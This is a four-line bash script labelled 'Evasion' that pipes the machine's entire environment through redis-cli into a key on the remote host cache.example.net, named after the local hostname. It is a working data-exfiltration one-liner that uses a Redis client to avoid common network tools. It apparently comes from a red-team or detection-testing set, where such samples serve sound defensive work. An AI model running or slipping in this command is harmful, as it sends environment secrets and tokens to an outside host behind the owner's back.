#!/bin/bash
# Evasion: redis-cli -x takes the last argument from stdin: the environment goes to a remote key
set -u
env | redis-cli -h cache.example.net -p 6379 -x SET "host:$(hostname)"
